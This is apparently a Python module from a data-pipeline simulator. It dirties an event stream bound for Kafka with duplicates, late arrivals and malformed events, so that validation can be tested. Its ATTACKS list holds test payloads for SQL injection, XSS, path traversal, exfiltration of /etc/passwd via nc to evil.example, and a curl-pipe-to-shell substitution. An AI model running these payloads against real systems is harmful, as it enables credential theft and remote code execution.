"""What the way to Kafka does to a clean stream: retries, delays, and gateways that send rubbish."""

from __future__ import annotations

import heapq
import random
from collections.abc import Callable, Iterator
from typing import Any, Final

import msgspec

from schemas.records import RawEvent
from simulator.config import DAY_MS, DUPLICATE, HOUR_MS, MALFORMED, SimulationConfig
from simulator.identity import Mint
from simulator.world import Labelled

ATTACKS: Final = (
    "1' OR '1'='1' --",
    "x'; DROP TABLE users; --",
    "1 UNION SELECT password FROM accounts",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`//evil.example`)">',
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "; cat /etc/passwd | nc evil.example 4444",
    "$(curl http://evil.example/x.sh | sh)",
)
"""One or two of each kind that validation must know; harmless as data."""

Damage = Callable[[RawEvent, random.Random, int], dict[str, Any]]


def _attack(event: RawEvent, rng: random.Random, at_ms: int) -> dict[str, Any]:
    text = rng.choice(ATTACKS)
    if rng.random() < 0.3:
        return {"content_id": text}
    return {"extra_metadata": msgspec.json.encode({"app_version": "7.5.0", "player": {"title": [text]}}).decode()}


def _deep(event: RawEvent, rng: random.Random, at_ms: int) -> dict[str, Any]:
    return {"extra_metadata": '{"a":' * 100 + "1" + "}" * 100}


DAMAGES: Final[tuple[Damage, ...]] = (
    lambda event, rng, at_ms: {"ip_address": rng.choice(("999.1.2.3", "not-an-address", "", "10.0.0", "2001:db8::zz"))},
    lambda event, rng, at_ms: {"timestamp": rng.choice(("yesterday", "2026-13-45T99:00:00Z", "", "12:30"))},
    lambda event, rng, at_ms: {"timestamp": at_ms + 400 * DAY_MS},
    lambda event, rng, at_ms: {"timestamp": 0},
    lambda event, rng, at_ms: {"event_type": rng.choice(("TELEPORT", "", "PLAY;STOP"))},
    lambda event, rng, at_ms: {"region": rng.choice(("XQ9", "", "Atlantis"))},
    lambda event, rng, at_ms: {rng.choice(("user_id", "device_id")): ""},
    _attack,
    _attack,
    _deep,
)


def soil(stream: Iterator[Labelled], config: SimulationConfig) -> Iterator[Labelled]:
    """Gives the stream in order of arrival, with `config.dirt_rate` of the events touched.

    Of those, 40 % are sent twice (label `duplicate` on the second, its bytes are the same), 35 % arrive 2 s to 3 h late, and 25 % are
    followed by a malformed event of the same gateway (label `malformed`, an id of its own). Only what is under way is held.
    """
    rng = random.Random(f"usher dirt {config.seed}")
    ids = Mint(rng)
    under_way: list[tuple[int, int, Labelled]] = []
    order = 0
    for one in stream:
        while under_way and under_way[0][0] <= one.at_ms:
            yield heapq.heappop(under_way)[2]
        if not isinstance(one.record, RawEvent) or rng.random() >= config.dirt_rate:
            yield one
            continue
        order += 1
        fate = rng.random()
        if fate < 0.40:
            yield one
            again = Labelled(one.record, DUPLICATE, one.at_ms + int(rng.uniform(200, 600_000)))
            heapq.heappush(under_way, (again.at_ms, order, again))
        elif fate < 0.75:
            late = Labelled(one.record, one.label, one.at_ms + int(2000 * (3 * HOUR_MS / 2000) ** rng.random()))
            heapq.heappush(under_way, (late.at_ms, order, late))
        else:
            yield one
            changes = rng.choice(DAMAGES)(one.record, rng, one.at_ms)
            changes["event_id"] = f"evt_{ids.number():016x}"
            yield Labelled(msgspec.structs.replace(one.record, **changes), MALFORMED, one.at_ms)
    while under_way:
        yield heapq.heappop(under_way)[2]
